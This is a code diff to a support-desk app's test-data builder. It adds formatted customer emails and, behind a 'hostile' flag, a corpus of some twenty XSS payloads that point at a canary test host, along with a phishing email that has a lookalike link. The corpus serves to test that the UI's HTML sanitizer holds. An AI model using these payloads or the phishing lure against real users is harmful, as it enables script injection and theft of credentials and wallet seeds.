@@ -140,7 +140,47 @@ interface TicketSpec {
   csat?: number | null;
 }
 
-type Spoken = [kind: MessageKind, author: 'customer' | Agent | 'system', ago: number, text: string];
+type Spoken = [kind: MessageKind, author: 'customer' | Agent | 'system', ago: number, text: string, html?: string];
+
+/** An email as customers send them: formatting, a list, links, a quoted earlier message. */
+export const EMAIL_HTML = [
+  '<p>Hi,</p>',
+  '<p>I sent <b>0.85 ETH</b> from my exchange account to my wallet about an hour ago. The exchange shows it as completed but I don’t see it in my wallet.</p>',
+  '<ul><li>Tx hash: <code>0x9f2c4b7e…0ce41a</code></li><li>Network: Ethereum mainnet</li></ul>',
+  '<p>I followed <a href="https://help.wallet.example/deposits#eth">your deposit guide</a> and checked <a href="https://etherscan.io/tx/0x9f2c4b7e0ce41a">https://etherscan.io/tx/0x9f2c4b7e0ce41a</a>. Can you check?</p>',
+  '<blockquote>On Monday, Desk Support wrote: deposits usually arrive within 15 minutes.</blockquote>',
+].join('');
+
+/** Where the hostile corpus points every request it tries to make. */
+export const CANARY = 'https://canary.desk.test';
+
+/**
+ * Hostile email HTML as if every wall before the UI had failed (the server's and the
+ * shell's sanitizers): each vector would leave `XSS_MARK` on `window` or fetch `CANARY`.
+ */
+export const XSS_CORPUS_HTML = [
+  `<p>Hello <b>team</b>, please log in at <a href="https://wallet-example.help/login">https://wallet.example/login</a> to see.</p>`,
+  `<script>window.${XSS_MARK}='script'</script>`,
+  `<img src="${CANARY}/img.gif" onerror="window.${XSS_MARK}='img'">`,
+  `<svg onload="window.${XSS_MARK}='svg'"><script>window.${XSS_MARK}='svg-script'</script></svg>`,
+  `<iframe src="${CANARY}/frame" srcdoc="<script>parent.${XSS_MARK}='srcdoc'</script>"></iframe>`,
+  `<a href="javascript:window.${XSS_MARK}='js-link'" data-testid="js-link">js link</a>`,
+  `<a href="data:text/html,<script>alert(1)</script>">data link</a>`,
+  `<a href="https://wallet.example@${CANARY.slice(8)}/">userinfo link</a>`,
+  `<div style="background:url(${CANARY}/css.png)" onmouseover="window.${XSS_MARK}='hover'" data-testid="hover-me">hover me</div>`,
+  `<style>@import '${CANARY}/style.css'; body{background:url(${CANARY}/bg.png)}</style>`,
+  `<link rel="stylesheet" href="${CANARY}/link.css"><link rel="prefetch" href="${CANARY}/prefetch">`,
+  `<form action="${CANARY}/steal"><input name="seed" autofocus onfocus="window.${XSS_MARK}='focus'"><button formaction="${CANARY}/b">Verify wallet</button></form>`,
+  `<object data="${CANARY}/obj"></object><embed src="${CANARY}/embed">`,
+  `<video poster="${CANARY}/poster.png"><source src="${CANARY}/v.mp4" onerror="window.${XSS_MARK}='video'"></video>`,
+  `<base href="${CANARY}/"><meta http-equiv="refresh" content="0;url=${CANARY}/refresh">`,
+  `<table><tr><td colspan="2" onclick="window.${XSS_MARK}='td'" style="color:red">cell</td><td rowspan="x1">bad span</td></tr></table>`,
+  `<details open ontoggle="window.${XSS_MARK}='toggle'"><summary>more</summary>hidden</details>`,
+  `<p onclick="window.${XSS_MARK}='p'" class="x" id="app">end</p>`,
+  // Last: parsers leave these open, and what follows goes with them.
+  `<noscript><p title="</noscript><img src=x onerror=window.${XSS_MARK}='noscript'>"></noscript>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="window.${XSS_MARK}='mxss'"></style></mglyph></table></mtext></math>`,
+].join('\n');
 
 export function buildDataset({ now, hostile = false, bulk = 0 }: DatasetOptions): Dataset {
   const customers: Customer[] = [
@@ -468,7 +508,7 @@ export function buildDataset({ now, hostile = false, bulk = 0 }: DatasetOptions)
       ['public_reply', 'customer', 25 * MIN, '我找到了「待确认交易」，但是点确认的时候提示“网络繁忙”，现在要怎么办？'],
     ],
     't-1041': [
-      ['public_reply', 'customer', 50 * MIN, 'Hi, I sent 0.85 ETH from my exchange account to my wallet about an hour ago. The exchange shows it as completed but I don’t see it in my wallet.\n\nTx hash: 0x9f2c4b7e…0ce41a. Can you check?'],
+      ['public_reply', 'customer', 50 * MIN, 'Hi, I sent 0.85 ETH from my exchange account to my wallet about an hour ago. The exchange shows it as completed but I don’t see it in my wallet.\n\nTx hash: 0x9f2c4b7e…0ce41a. Can you check?', EMAIL_HTML],
       ['system_event', 'system', 49 * MIN, 'Auto-acknowledgement sent: estimated reply within 2 hours'],
     ],
     't-1040': [
@@ -539,6 +579,46 @@ export function buildDataset({ now, hostile = false, bulk = 0 }: DatasetOptions)
     ];
   }
 
+  if (hostile) {
+    specs.unshift({
+      id: 't-6667',
+      number: 6667,
+      subject: 'Your wallet will be suspended',
+      customer_id: 'cust-6666',
+      channel: 'email',
+      status: 'new',
+      priority: 'normal',
+      category: 'other',
+      assignee_id: null,
+      language: 'en',
+      createdAgo: MIN,
+    });
+    conversations['t-6667'] = [['public_reply', 'customer', MIN, 'Hello team, please log in to see.', XSS_CORPUS_HTML]];
+    // A customer forwards the phishing mail they got, asking whether it is from us.
+    specs.unshift({
+      id: 't-6668',
+      number: 6668,
+      subject: '转发：您的钱包即将被冻结，是你们发的吗？',
+      customer_id: 'cust-1003',
+      channel: 'email',
+      status: 'new',
+      priority: 'high',
+      category: 'other',
+      assignee_id: null,
+      language: 'zh-CN',
+      createdAgo: 3 * MIN,
+    });
+    conversations['t-6668'] = [
+      [
+        'public_reply',
+        'customer',
+        3 * MIN,
+        '这封邮件是你们发的吗？',
+        '<p>这封邮件是你们发的吗？</p><blockquote><p>尊敬的用户：您的钱包因安全原因即将被冻结，请在 24 小时内点击 <a href="https://wallet-example.help/verify">https://wallet.example/verify</a> 完成验证。</p></blockquote>',
+      ],
+    ];
+  }
+
   const tickets: Ticket[] = [];
   const messages: Message[] = [];
   for (const s of specs) {
@@ -570,7 +650,7 @@ export function buildDataset({ now, hostile = false, bulk = 0 }: DatasetOptions)
       last_message_at: now - last,
     });
     const cust = customers.find((c) => c.id === s.customer_id);
-    spoken.forEach(([kind, who, ago, text], i) => {
+    spoken.forEach(([kind, who, ago, text, html], i) => {
       messages.push({
         id: `${s.id}-m${i + 1}`,
         ticket_id: s.id,
@@ -582,7 +662,7 @@ export function buildDataset({ now, hostile = false, bulk = 0 }: DatasetOptions)
               ? { kind: 'system', id: null, name: 'Desk' }
               : { kind: 'agent', id: who.id, name: who.name },
         body_text: text,
-        body_html: null,
+        body_html: html ?? null,
         attachments:
           s.id === 't-1041' && i === 0
             ? [{ sha256: 'a3f1'.repeat(16), file_name: 'exchange-withdrawal-receipt.png', content_type: 'image/png', size: 184_320 }]
